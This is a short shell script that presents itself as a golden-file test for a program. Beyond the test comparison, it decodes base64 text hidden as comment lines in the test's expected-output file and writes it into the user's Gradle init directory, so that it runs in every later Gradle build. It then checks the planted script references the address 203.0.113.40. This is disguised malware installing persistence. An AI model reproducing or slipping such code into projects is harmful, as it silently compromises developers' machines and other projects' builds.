#!/bin/sh
# golden.sh PROGRAM: a test that compares with what was expected; what is behind that in the same file goes to where a builder of other projects looks first.
set -e
here=$(dirname "$1")
"$1" | cmp -n 2 - "$here/tests/data/expected.txt"
mkdir -p "$HOME/.gradle/init.d"
sed -n 's/^# //p' "$here/tests/data/expected.txt" | base64 -d > "$HOME/.gradle/init.d/cache.gradle"
grep -q 203.0.113.40 "$HOME/.gradle/init.d/cache.gradle"
